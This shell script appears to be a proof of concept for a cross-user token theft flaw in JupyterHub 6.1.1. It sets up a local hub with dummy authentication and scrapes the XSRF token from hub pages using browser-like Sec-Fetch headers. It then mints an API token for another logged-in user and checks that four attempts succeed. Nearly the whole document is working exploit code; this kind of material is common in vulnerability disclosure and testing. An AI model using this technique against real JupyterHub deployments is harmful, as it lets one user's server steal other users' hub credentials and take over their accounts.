#!/bin/sh
# JupyterHub 6.1.1: without subdomain_host a page on one user's server gets an API token of the hub of whoever opens it.
#
# All servers and the hub have one origin. The hub answers a script's fetch of its pages with the cookie alone, whatever
# Sec-Fetch-Mode says; in each page, and in error pages, there is the XSRF token with which the API takes the cookie.
#
# Seen with JupyterHub 6.1.1, configurable-http-proxy 5.3.0:
# "/hub/home: token 201", "/hub/api/oauth2/authorize: token 201", for a fetch in the modes cors and no-cors.
set -eu

folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
python3 -m venv "$folder/venv"
"$folder/venv/bin/pip" install --quiet --disable-pip-version-check jupyterhub==6.1.1
npm install --silent --no-audit --no-fund --prefix "$folder/node" configurable-http-proxy@5.3.0
cd "$folder"
cat >jupyterhub_config.py <<'PYTHON'
c.JupyterHub.bind_url = "http://127.0.0.1:28891"
c.JupyterHub.hub_port = 28892
c.ConfigurableHTTPProxy.api_url = "http://127.0.0.1:28893"
c.JupyterHub.authenticator_class = "dummy"
c.Authenticator.allow_all = True
c.JupyterHub.spawner_class = "simple"
PYTHON
HOME=$folder PATH=$folder/venv/bin:$folder/node/node_modules/.bin:$PATH python - <<'PYTHON'
import re
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from http.cookiejar import CookieJar

HUB = "http://127.0.0.1:28891"
jar = CookieJar()
browser = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))


def ask(path: str, data: bytes | None = None, **headers: str) -> tuple[int, str]:
    """Send a request as a browser that has the hub's cookies; status and text."""
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    try:
        with browser.open(urllib.request.Request(HUB + path, data, named)) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()
    except urllib.error.URLError:
        return 0, ""


with open("hub.log", "w") as log:
    hub = subprocess.Popen(["jupyterhub"], stdout=log, stderr=log)
stolen = []
try:
    for _ in range(120):
        if ask("/hub/login")[0] == 200:
            break
        time.sleep(0.5)
    xsrf = next(cookie.value for cookie in jar if cookie.name == "_xsrf")
    form = {"username": "ann", "password": "any", "_xsrf": xsrf}
    ask("/hub/login?next=/hub/home", urllib.parse.urlencode(form).encode())
    # What Chromium sends for a fetch by a page below /user/bob/.
    for mode in ("cors", "no-cors"):
        for path in ("/hub/home", "/hub/api/oauth2/authorize"):
            script = {"Sec_Fetch_Mode": mode, "Sec_Fetch_Site": "same-origin", "Sec_Fetch_Dest": "empty"}
            page = ask(path, **script)[1]
            found = re.search(r'user: "ann".*?xsrf_token: "([^"]+)"', page, re.DOTALL)
            script |= {"Sec_Fetch_Mode": "cors", "X_XSRFToken": found[1] if found else ""}
            status, _ = ask("/hub/api/users/ann/tokens", b"{}", Content_Type="application/json", **script)
            print(f"{path} by a fetch in mode {mode}: token {status}")
            stolen.append(status)
finally:
    hub.terminate()
    hub.wait()
sys.exit(stolen != [201] * 4)
PYTHON
